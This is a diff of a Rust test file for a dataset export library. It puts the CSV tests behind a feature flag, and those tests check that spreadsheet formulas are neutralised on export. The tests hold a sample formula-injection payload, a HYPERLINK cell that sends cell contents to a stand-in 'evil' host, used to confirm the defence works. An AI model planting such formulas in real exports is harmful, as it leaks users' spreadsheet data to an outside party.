@@ -1,13 +1,14 @@
 //! Dataset export cannot be turned against the user (#18 point 1): no writing through planted
 //! links, concurrent exports to one path never mix, spreadsheet formulas are neutralised (and
-//! come back intact on upload), and new files are owner-only on Unix.
+//! come back intact on upload), and new files are owner-only on Unix. The CSV tests need the
+//! `csv` feature (on in `cargo test --workspace`).
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test may panic
 
 use std::path::Path;
 
-use mutagent_prompt_datasets::{
-    DatasetFileFormat, DatasetFileReader, ExportOptions, PromptDatasetsExt, UploadOptions,
-};
+#[cfg(feature = "csv")]
+use mutagent_prompt_datasets::{DatasetFileFormat, UploadOptions};
+use mutagent_prompt_datasets::{DatasetFileReader, ExportOptions, PromptDatasetsExt};
 use mutagent_test_support::{Reply, ScriptedServer, TempDir};
 use mutagent_wire_test::blocking_client;
 use serde_json::{json, Value};
@@ -150,10 +151,12 @@ fn concurrent_exports_to_one_path_never_mix_or_fail() {
 }
 
 // ---------------------------------------------------------------------------------------------
-// Spreadsheet formulas
+// Spreadsheet formulas (CSV only)
 
+#[cfg(feature = "csv")]
 const HOSTILE: &str = "=HYPERLINK(\"http://evil/?\"&A1,\"open\")";
 
+#[cfg(feature = "csv")]
 fn formula_export() -> Value {
     export_json(
         12,
@@ -167,12 +170,14 @@ fn formula_export() -> Value {
     )
 }
 
+#[cfg(feature = "csv")]
 /// The raw cells of a CSV text: first field of each line, as written (no unquoting needed
 /// for the cells this test looks at, which carry no comma).
 fn csv_text(path: &Path) -> String {
     std::fs::read_to_string(path).expect("csv")
 }
 
+#[cfg(feature = "csv")]
 #[test]
 fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
     let dir = TempDir::new("mutagent-export-safety");
@@ -206,6 +211,7 @@ fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
     }
 }
 
+#[cfg(feature = "csv")]
 #[test]
 fn exported_formula_cells_read_back_as_the_original_text() {
     let dir = TempDir::new("mutagent-export-safety");
@@ -233,6 +239,7 @@ fn exported_formula_cells_read_back_as_the_original_text() {
     assert_eq!(raw[0].name.as_deref(), Some(&*format!("'{HOSTILE}")));
 }
 
+#[cfg(feature = "csv")]
 #[test]
 fn the_upload_sends_the_original_text_unless_told_to_keep_cells_as_written() {
     let dir = TempDir::new("mutagent-export-safety");
@@ -256,6 +263,7 @@ fn the_upload_sends_the_original_text_unless_told_to_keep_cells_as_written() {
     }
 }
 
+#[cfg(feature = "csv")]
 #[test]
 fn an_exact_export_writes_cells_as_they_are() {
     let dir = TempDir::new("mutagent-export-safety");
@@ -326,6 +334,7 @@ fn new_export_files_are_owner_only_unless_asked_otherwise() {
 // ---------------------------------------------------------------------------------------------
 // Options and the plain writer
 
+#[cfg(feature = "csv")]
 #[test]
 fn the_format_given_wins_over_the_extension() {
     let dir = TempDir::new("mutagent-export-safety");
@@ -343,6 +352,7 @@ fn the_format_given_wins_over_the_extension() {
     }
 }
 
+#[cfg(feature = "csv")]
 #[test]
 fn write_items_counts_what_it_wrote_and_quotes_edge_spaces() {
     use mutagent_prompt_datasets::export::write_items;
